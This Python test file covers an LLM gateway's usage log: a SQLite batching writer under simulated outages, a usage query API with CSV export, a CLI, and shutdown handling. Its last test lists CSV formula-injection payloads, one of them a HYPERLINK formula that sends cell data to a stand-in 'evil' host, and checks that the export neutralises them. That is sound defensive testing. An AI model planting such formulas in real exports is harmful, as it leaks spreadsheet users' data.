"""The usage log: the batching writer on real SQLite files, the usage API through a real running
gateway, and ``turnout usage`` against it.

Outages are real: another sqlite3 connection holds the write lock, or the writer's own
connection is capped (``max_page_count``: the database is full) or made read-only.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import logging
import os
import signal
import sqlite3
import sys
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from gateway import db
from gateway.config import Price, Usage
from gateway.metrics import Metrics
from gateway.migrations import migrate
from gateway.usage import UsageRecord, UsageWriter
from tests.fakes.openai_upstream import FakeOpenAI
from tests.gateway_server import RunningGateway, config_of, free_port, running_gateway

ROOT = Path(__file__).resolve().parent.parent
T0 = 1_750_000_000.0  # 2025-06-15T15:06:40Z


def record(i: int = 0, **fields: Any) -> UsageRecord:
    values: dict[str, Any] = {
        "ts": T0 + i,
        "request_id": f"req-{i}",
        "agent_id": "coder",
        "ingress": "chat",
        "model": "chat",
        "status": 200,
        "duration_ms": 100.0,
        "prompt_tokens": 10,
        "completion_tokens": 5,
    }
    return UsageRecord(**{**values, **fields})


def rows(path: Path, sql: str = "SELECT COUNT(*) FROM usage") -> Any:
    with sqlite3.connect(path) as conn:
        result = conn.execute(sql).fetchall()
    conn.close()
    return result[0][0] if sql.startswith("SELECT COUNT") else result


def sample(metrics: Metrics, name: str, **labels: str) -> float:
    value = metrics.registry.get_sample_value(name, labels)
    return 0.0 if value is None else value


async def wait_until(condition: Callable[[], bool], seconds: float = 10) -> None:
    for _ in range(int(seconds / 0.01)):
        if condition():
            return
        await asyncio.sleep(0.01)
    raise AssertionError("condition not met in time")


async def open_writer(
    path: Path,
    metrics: Metrics,
    *,
    batch_size: int = 100,
    interval: float = 0.02,
    max_pending: int = 1_000_000,
    prices: dict[str, Price] | None = None,
    stop_timeout: float = 5.0,
) -> UsageWriter:
    # A short busy timeout and backoff so outages show within a test's patience.
    connection = await db.connect(str(path), busy_timeout=0.05)
    await migrate(connection)
    writer = UsageWriter(
        connection,
        Usage(batch_size=batch_size, flush_interval_seconds=interval, max_pending=max_pending),
        metrics,
        prices,
        path=str(path),
        stop_timeout=stop_timeout,
        backoff=(0.02, 0.2),
    )
    writer.start()
    return writer


@asynccontextmanager
async def write_lock(path: Path) -> AsyncIterator[None]:
    """Another process's writer holding the database for as long as the block runs."""
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        yield
    finally:
        holder.execute("ROLLBACK")
        holder.close()


# --- the writer ---------------------------------------------------------------------------------


async def test_every_submitted_row_is_written_by_the_time_stop_returns(tmp_path: Path) -> None:
    path, metrics = tmp_path / "turnout.db", Metrics()
    writer = await open_writer(path, metrics, batch_size=100, interval=60)
    for i in range(1234):
        writer.submit(record(i))
    await writer.stop()
    assert rows(path) == 1234
    assert sample(metrics, "turnout_usage_rows_written_total") == 1234
    assert sample(metrics, "turnout_usage_queue_depth") == 0


async def test_full_batches_are_written_at_once_and_the_rest_at_the_flush_interval(
    tmp_path: Path,
) -> None:
    path, metrics = tmp_path / "turnout.db", Metrics()
    writer = await open_writer(path, metrics, batch_size=100, interval=0.5)
    for i in range(250):
        writer.submit(record(i))
    await wait_until(lambda: rows(path) == 200)
    assert sample(metrics, "turnout_usage_queue_depth") == 50
    started = time.monotonic()
    await wait_until(lambda: rows(path) == 250)
    assert time.monotonic() - started < 1.0
    await writer.stop()


async def test_a_row_is_stored_field_for_field(tmp_path: Path) -> None:
    path = tmp_path / "turnout.db"
    writer = await open_writer(path, Metrics())
    writer.submit(
        record(
            7,
            key_id="k1",
            project="proj",
            channel="slack",
            ingress="messages",
            role="coder",
            provider="role:coder",
            upstream_model="qwen",
            status=499,
            stream=True,
            cached_tokens=3,
            estimated=True,
            ttft_ms=12.5,
            overhead_ms=0.4,
            cost_usd=0.25,
            notes="client disconnected after 5 tokens",
        )
    )
    await writer.stop()
    (row,) = rows(
        path,
        "SELECT ts, request_id, key_id, agent_id, project, channel, ingress, model, role, "
        "provider, upstream_model, status, stream, prompt_tokens, completion_tokens, "
        "cached_tokens, estimated, ttft_ms, duration_ms, overhead_ms, cost_usd, notes FROM usage",
    )
    assert row == (
        *(T0 + 7, "req-7", "k1", "coder", "proj", "slack", "messages", "chat", "coder"),
        *("role:coder", "qwen", 499, 1, 10, 5, 3, 1, 12.5, 100.0, 0.4, 0.25),
        "client disconnected after 5 tokens",
    )


async def test_a_locked_database_never_blocks_requests_and_its_rows_land_after_the_lock(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path, metrics = tmp_path / "turnout.db", Metrics()
    writer = await open_writer(path, metrics, batch_size=100)
    caplog.set_level(logging.INFO, logger="turnout.usage")
    async with write_lock(path):
        slowest = 0.0
        for i in range(1000):
            started = time.perf_counter()
            writer.submit(record(i))
            slowest = max(slowest, time.perf_counter() - started)
            if i % 100 == 0:
                await asyncio.sleep(0.01)  # requests keep arriving while the writer retries
        assert slowest < 0.005
        await wait_until(
            lambda: sample(metrics, "turnout_usage_write_errors_total", reason="locked") >= 3
        )
        # The event loop is not held up by the writer waiting on the lock.
        started = time.perf_counter()
        await asyncio.sleep(0.01)
        assert time.perf_counter() - started < 0.1
        assert sample(metrics, "turnout_usage_writer_healthy") == 0
        assert sample(metrics, "turnout_usage_queue_depth") == 1000
        assert sample(metrics, "turnout_usage_lag_seconds") > 0.05
        assert rows(path) == 0
    await wait_until(lambda: rows(path) == 1000)
    # The gauges follow the commit from the writer thread's callback: a moment later.
    await wait_until(lambda: sample(metrics, "turnout_usage_queue_depth") == 0)
    assert sample(metrics, "turnout_usage_writer_healthy") == 1
    assert sample(metrics, "turnout_usage_lag_seconds") == 0
    await writer.stop()
    messages = [r.getMessage() for r in caplog.records]
    # Once per outage, not once per retry.
    assert sum("cannot write" in m for m in messages) == 1, messages
    assert sum("writing to" in m and "again" in m for m in messages) == 1, messages


@pytest.mark.parametrize(
    ("reason", "break_it", "mend_it"),
    [
        ("full", "PRAGMA max_page_count = {pages}", "PRAGMA max_page_count = 1073741823"),
        ("readonly", "PRAGMA query_only = ON", "PRAGMA query_only = OFF"),
    ],
)
async def test_a_full_or_read_only_database_holds_rows_in_memory_until_it_recovers(
    tmp_path: Path, reason: str, break_it: str, mend_it: str
) -> None:
    path, metrics = tmp_path / "turnout.db", Metrics()
    connection = await db.connect(str(path))
    await migrate(connection)
    async with connection.execute("PRAGMA page_count") as cursor:
        pages = (await cursor.fetchone() or (0,))[0]
    await connection.execute(break_it.format(pages=pages))
    writer = UsageWriter(
        connection,
        Usage(batch_size=1000, flush_interval_seconds=0.02),
        metrics,
        path=str(path),
        backoff=(0.02, 0.2),
    )
    writer.start()
    for i in range(500):
        writer.submit(record(i, notes="x" * 200))
    await wait_until(
        lambda: sample(metrics, "turnout_usage_write_errors_total", reason=reason) >= 2
    )
    assert sample(metrics, "turnout_usage_writer_healthy") == 0
    assert sample(metrics, "turnout_usage_queue_depth") == 500
    assert rows(path) == 0
    await connection.execute(mend_it)
    await wait_until(lambda: rows(path) == 500)
    # The rows are visible to another connection as soon as they commit, a moment before the
    # writer's own thread marks itself healthy again: wait for that too, then check it.
    await wait_until(lambda: sample(metrics, "turnout_usage_writer_healthy") == 1)
    assert sample(metrics, "turnout_usage_writer_healthy") == 1
    await writer.stop()


async def test_past_max_pending_the_oldest_rows_are_dropped_and_counted(tmp_path: Path) -> None:
    path, metrics = tmp_path / "turnout.db", Metrics()
    writer = await open_writer(path, metrics, batch_size=50, max_pending=100)
    # submit() never yields, so the writer cannot take anything until all 250 are in.
    for i in range(250):
        writer.submit(record(i))
    assert sample(metrics, "turnout_usage_rows_dropped_total", reason="overflow") == 150
    assert sample(metrics, "turnout_usage_queue_depth") == 100
    await writer.stop()
    assert rows(path, "SELECT MIN(request_id), MAX(request_id), COUNT(*) FROM usage") == [
        ("req-150", "req-249", 100)
    ]


async def test_a_row_the_database_refuses_is_dropped_alone(tmp_path: Path) -> None:
    path, metrics = tmp_path / "turnout.db", Metrics()
    writer = await open_writer(path, metrics)
    writer.submit(record(1))
    writer.submit(record(2, agent_id=None))  # NOT NULL: a bug upstream of the writer
    writer.submit(record(3))
    await writer.stop()
    assert rows(path, "SELECT request_id FROM usage ORDER BY id") == [("req-1",), ("req-3",)]
    assert sample(metrics, "turnout_usage_rows_dropped_total", reason="invalid") == 1
    assert sample(metrics, "turnout_usage_rows_written_total") == 2


async def test_rows_without_a_cost_are_priced_from_the_table_off_the_request_path(
    tmp_path: Path,
) -> None:
    path = tmp_path / "turnout.db"
    prices = {"gpt-*": Price(input=2.0, output=8.0, cached_input=1.0)}
    writer = await open_writer(path, Metrics(), prices=prices)
    writer.submit(
        record(
            1,
            model="chat",
            upstream_model="gpt-4o",
            prompt_tokens=1000,
            completion_tokens=500,
            cached_tokens=400,
        )
    )
    writer.submit(record(2, model="local", upstream_model="qwen"))
    writer.submit(record(3, model="gpt-4o", cost_usd=9.0))  # the caller's own figure stands
    await writer.stop()
    costs = rows(path, "SELECT request_id, cost_usd FROM usage ORDER BY id")
    assert costs[0] == ("req-1", pytest.approx((600 * 2.0 + 400 * 1.0 + 500 * 8.0) / 1e6))
    assert costs[1:] == [("req-2", None), ("req-3", 9.0)]


async def test_stop_gives_up_on_a_database_that_stays_locked_and_counts_the_loss(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path, metrics = tmp_path / "turnout.db", Metrics()
    writer = await open_writer(path, metrics, stop_timeout=0.5)
    async with write_lock(path):
        for i in range(30):
            writer.submit(record(i))
        started = time.monotonic()
        await writer.stop()
        assert time.monotonic() - started < 2.0
    assert sample(metrics, "turnout_usage_rows_dropped_total", reason="shutdown") == 30
    assert any("30 rows not written" in r.getMessage() for r in caplog.records)
    writer.submit(record(99))  # a straggler after shutdown is counted, not lost silently
    assert sample(metrics, "turnout_usage_rows_dropped_total", reason="closed") == 1


async def test_an_in_memory_database_works_for_tests_and_embedding() -> None:
    metrics = Metrics()
    connection = await db.connect(db.MEMORY)
    await migrate(connection)
    writer = UsageWriter(connection, Usage(flush_interval_seconds=0.01), metrics)
    writer.start()
    writer.submit(record(1))
    await wait_until(lambda: writer.depth() == 0)
    async with writer.reader() as reader:
        assert await reader.fetch("SELECT COUNT(*) AS n FROM usage", ()) == [{"n": 1}]
    await writer.stop()


# --- the usage API through a real gateway ------------------------------------------------------


def usage_config(database: str, **sections: Any) -> Any:
    return config_of(
        {
            "server": {"database": database},
            "usage": {"flush_interval_seconds": 0.01},
            "prices": {"smart": {"input": 3, "output": 15}},
            **sections,
        }
    )


def sample_records() -> list[UsageRecord]:
    """Two agents on two models over two UTC days; one failure; streaming rows with a TTFT."""
    records = [
        record(
            i,
            ts=T0 + i * 3600,
            agent_id="coder",
            key_id="k-coder",
            model="fast",
            provider="role:fast",
            duration_ms=float(10 * (i + 1)),
            stream=i % 2 == 0,
            ttft_ms=float(i + 1) if i % 2 == 0 else None,
        )
        for i in range(20)
    ]
    records += [
        record(
            100 + i,
            ts=T0 + i * 600,
            agent_id="writer",
            key_id="k-writer",
            project="blog",
            model="smart",
            provider="anthropic",
            status=502 if i == 0 else 200,
            duration_ms=float(1000 + i),
            prompt_tokens=1000,
            completion_tokens=100,
            cached_tokens=200,
        )
        for i in range(5)
    ]
    return records


def nearest_rank(values: list[float], p: int) -> float:
    ordered = sorted(values)
    return ordered[-(-p * len(ordered) // 100) - 1]


@asynccontextmanager
async def gateway_with_usage(database: str) -> AsyncIterator[RunningGateway]:
    async with running_gateway(usage_config(database)) as gw:
        writer = gw.app.state.gateway.usage
        for r in sample_records():
            writer.submit(r)
        await wait_until(lambda: writer.depth() == 0)
        yield gw


async def get(gw: RunningGateway, query: str) -> tuple[int, Any]:
    async with aiohttp.ClientSession() as session, session.get(f"{gw.url}/v1/usage?{query}") as r:
        if r.content_type == "application/json":
            return r.status, await r.json()
        return r.status, (r.headers["Content-Type"], await r.text())


async def test_usage_api_filters_by_agent_model_key_project_and_time(tmp_path: Path) -> None:
    async with gateway_with_usage(str(tmp_path / "turnout.db")) as gw:
        status, body = await get(gw, "agent=writer")
        assert status == 200
        assert [r["request_id"] for r in body["data"]] == [
            f"req-{100 + i}" for i in (4, 3, 2, 1, 0)
        ]
        assert body["totals"]["requests"] == 5 and body["totals"]["errors"] == 1
        assert body["totals"]["cost_usd"] == pytest.approx(5 * (1000 * 3 + 100 * 15) / 1e6)
        assert body["data"][0]["stream"] is False

        _, body = await get(gw, "model=fast&limit=3")
        assert [r["request_id"] for r in body["data"]] == ["req-19", "req-18", "req-17"]
        assert body["totals"]["requests"] == 20  # totals ignore limit

        _, body = await get(gw, f"since={T0 + 5 * 3600}&until={T0 + 8 * 3600}&key=k-coder")
        assert sorted(r["request_id"] for r in body["data"]) == ["req-5", "req-6", "req-7"]
        _, body = await get(gw, "since=2025-06-15T15:06:40Z&until=2025-06-15T16:00:00%2B00:00")
        assert body["totals"]["requests"] == 6  # req-0 and five writer rows, ten minutes apart
        _, body = await get(gw, "project=blog")
        assert body["totals"]["requests"] == 5
        _, body = await get(gw, "since=1h")
        assert body["totals"]["requests"] == 0  # every sample row is from 2025


async def test_usage_api_groups_with_totals_and_exact_percentiles(tmp_path: Path) -> None:
    async with gateway_with_usage(str(tmp_path / "turnout.db")) as gw:
        status, body = await get(gw, "group_by=agent,model")
        assert status == 200
        coder, writer = body["data"]
        assert (coder["agent"], coder["model"], writer["agent"], writer["model"]) == (
            "coder",
            "fast",
            "writer",
            "smart",
        )
        durations = [float(10 * (i + 1)) for i in range(20)]
        assert coder["requests"] == 20
        assert coder["latency_ms_p50"] == nearest_rank(durations, 50) == 100.0
        assert coder["latency_ms_p95"] == nearest_rank(durations, 95) == 190.0
        assert coder["ttft_ms_p50"] == nearest_rank([i + 1.0 for i in range(0, 20, 2)], 50)
        assert coder["cost_usd"] is None  # "fast" has no price
        assert writer["errors"] == 1 and writer["ttft_ms_p50"] is None
        assert writer["prompt_tokens"] == 5000 and writer["cached_tokens"] == 1000
        assert writer["total_tokens"] == 5500
        totals = body["totals"]
        assert totals["requests"] == 25
        assert totals["latency_ms_p95"] == nearest_rank(
            durations + [1000.0 + i for i in range(5)], 95
        )

        # Repeated parameters work as well as commas; days are UTC.
        _, body = await get(gw, "group_by=day&group_by=agent")
        assert [(g["day"], g["agent"], g["requests"]) for g in body["data"]] == [
            ("2025-06-15", "coder", 9),
            ("2025-06-15", "writer", 5),
            ("2025-06-16", "coder", 11),
        ]


async def test_usage_api_exports_csv(tmp_path: Path) -> None:
    async with gateway_with_usage(str(tmp_path / "turnout.db")) as gw:
        status, (content_type, text) = await get(gw, "format=csv&limit=0")
        assert status == 200 and content_type.startswith("text/csv")
        exported = list(csv.DictReader(io.StringIO(text)))
        assert len(exported) == 25
        assert {"ts", "request_id", "agent_id", "model", "cost_usd", "notes"} <= set(exported[0])
        _, (_, text) = await get(gw, "format=csv&group_by=model")
        assert [(r["model"], r["requests"]) for r in csv.DictReader(io.StringIO(text))] == [
            ("fast", "20"),
            ("smart", "5"),
        ]


async def test_usage_api_names_what_is_wrong_with_a_query(tmp_path: Path) -> None:
    async with gateway_with_usage(str(tmp_path / "turnout.db")) as gw:
        status, body = await get(gw, "group_by=colour")
        assert status == 400 and body["error"]["param"] == "group_by"
        assert "agent, model" in body["error"]["message"]
        status, body = await get(gw, "since=yesterday")
        assert status == 400 and body["error"]["param"] == "since"


async def test_usage_api_reads_an_in_memory_database(tmp_path: Path) -> None:
    async with gateway_with_usage(db.MEMORY) as gw:
        _, body = await get(gw, "group_by=model")
        assert [g["requests"] for g in body["data"]] == [20, 5]


async def test_usage_api_says_when_the_usage_log_is_off(tmp_path: Path) -> None:
    config = usage_config(str(tmp_path / "turnout.db"), usage={"enabled": False})
    async with running_gateway(config) as gw:
        assert gw.app.state.gateway.usage is None
        status, body = await get(gw, "")
        assert status == 404 and "usage.enabled" in body["error"]["message"]


async def test_rows_pending_at_shutdown_are_written_before_the_gateway_exits(
    tmp_path: Path,
) -> None:
    path = tmp_path / "turnout.db"
    config = usage_config(str(path), usage={"flush_interval_seconds": 3600, "batch_size": 10_000})
    async with running_gateway(config) as gw:
        writer = gw.app.state.gateway.usage
        for i in range(500):
            writer.submit(record(i))
        assert writer.depth() == 500
        async with aiohttp.ClientSession() as session:
            async with session.get(gw.url + "/metrics") as response:
                assert "turnout_usage_queue_depth 500.0" in await response.text()
    assert rows(path) == 500


# --- turnout usage -----------------------------------------------------------------------------


async def turnout_usage(gw: RunningGateway, *args: str) -> str:
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "gateway",
        "usage",
        *args,
        cwd=ROOT,
        env={**os.environ, "TURNOUT_URL": gw.url, "TZ": "UTC"},
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await process.communicate()
    assert process.returncode == 0, err.decode()
    return out.decode()


async def test_turnout_usage_prints_an_aligned_table_csv_or_json(tmp_path: Path) -> None:
    async with gateway_with_usage(str(tmp_path / "turnout.db")) as gw:
        table = await turnout_usage(gw, "--group-by", "agent,model")
        lines = table.splitlines()
        assert lines[0].split() == [
            *("agent", "model", "requests", "errors", "prompt", "completion", "cached"),
            *("cost", "p50", "ms", "p95", "ms"),
        ]
        assert lines[1].split()[:4] == ["coder", "fast", "20", "0"]
        assert lines[2].split()[:4] == ["writer", "smart", "5", "1"]
        # Columns line up: every row ends where the header ends.
        assert len({len(line) for line in lines[:3]}) == 1
        assert "25 requests, 1 errors" in table

        table = await turnout_usage(gw, "--agent", "writer", "--since", "2025-06-15T15:00:00")
        assert table.splitlines()[1].split()[:5] == [
            "2025-06-15",
            "15:46:40",
            "writer",
            "smart",
            "anthropic",
        ]

        exported = await turnout_usage(gw, "--csv", "--model", "smart")
        assert len(list(csv.DictReader(io.StringIO(exported)))) == 5
        assert '"requests": 25' in await turnout_usage(gw, "--json", "--group-by", "day")


async def test_turnout_usage_explains_a_refused_query(tmp_path: Path) -> None:
    async with gateway_with_usage(str(tmp_path / "turnout.db")) as gw:
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            *("-m", "gateway", "usage", "--url", gw.url, "--group-by", "colour"),
            cwd=ROOT,
            stderr=asyncio.subprocess.PIPE,
        )
        _, err = await process.communicate()
    assert process.returncode == 1
    assert "400" in err.decode() and "unknown 'colour'" in err.decode()


# --- a real process: SIGTERM with requests in flight --------------------------------------------


async def test_sigterm_with_requests_in_flight_leaves_one_row_per_request(tmp_path: Path) -> None:
    path, port = tmp_path / "turnout.db", free_port()
    async with FakeOpenAI(first_byte_delay=1.0) as fake:
        (tmp_path / "routing.yaml").write_text(
            f"""
server: {{database: {path}}}
# Nothing is written before shutdown unless stop() flushes it.
usage: {{flush_interval_seconds: 3600}}
routing: {{retries: 0}}
providers:
  up: {{kind: openai, base_url: "{fake.url}", local: true}}
models:
  - {{name: quick, targets: [{{provider: up, model: ok}}]}}
  - {{name: slow, targets: [{{provider: up, model: slow-first-byte}}]}}
  - {{name: broken, targets: [{{provider: up, model: error-500}}]}}
"""
        )
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            *("-m", "gateway", "serve", "--config", str(tmp_path / "routing.yaml")),
            *("--port", str(port)),
            cwd=tmp_path,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        url = f"http://127.0.0.1:{port}"
        async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(force_close=True)) as s:

            async def chat(model: str) -> int:
                body = {"model": model, "messages": [{"role": "user", "content": "hi"}]}
                async with s.post(url + "/v1/chat/completions", json=body) as response:
                    await response.read()
                    return response.status

            for _ in range(500):
                with contextlib.suppress(aiohttp.ClientError):
                    async with s.get(url + "/health") as response:
                        if response.status == 200:
                            break
                await asyncio.sleep(0.02)
            done = [await chat("quick") for _ in range(10)] + [await chat("broken")]
            in_flight = [asyncio.create_task(chat("slow")) for _ in range(10)]
            await asyncio.sleep(0.3)
            process.send_signal(signal.SIGTERM)
            statuses = done + list(await asyncio.gather(*in_flight))
        output = (await process.communicate())[0].decode()
    assert process.returncode == 0, output
    assert statuses == [200] * 10 + [502] + [200] * 10, output
    assert rows(path) == 21
    assert rows(path, "SELECT model, status, COUNT(*) FROM usage GROUP BY 1, 2 ORDER BY 1") == [
        ("broken", 502, 1),
        ("quick", 200, 10),
        ("slow", 200, 10),
    ]


async def test_usage_csv_neutralises_caller_chosen_formulas(tmp_path: Path) -> None:
    """Agent ids are chosen by callers; a spreadsheet must not run them (OWASP CSV injection)."""
    formulas = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    async with running_gateway(usage_config(str(tmp_path / "turnout.db"))) as gw:
        writer = gw.app.state.gateway.usage
        for i, agent in enumerate(formulas):
            writer.submit(record(i, ts=T0 + i, agent_id=agent, model="fast", provider="role:fast"))
        await wait_until(lambda: writer.depth() == 0)
        _, (_, text) = await get(gw, "format=csv&limit=0")
        _, (_, grouped) = await get(gw, "format=csv&group_by=agent")
        _, body = await get(gw, "limit=0")
    exported = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["agent_id"] for r in exported) == sorted("'" + f for f in formulas)
    assert sorted(r["agent"] for r in csv.DictReader(io.StringIO(grouped))) == sorted(
        "'" + f for f in formulas
    )
    assert all(r["duration_ms"][0].isdigit() for r in exported)  # numbers untouched
    # JSON is no spreadsheet: it answers the ids as they are.
    assert sorted(r["agent_id"] for r in body["data"]) == sorted(formulas)
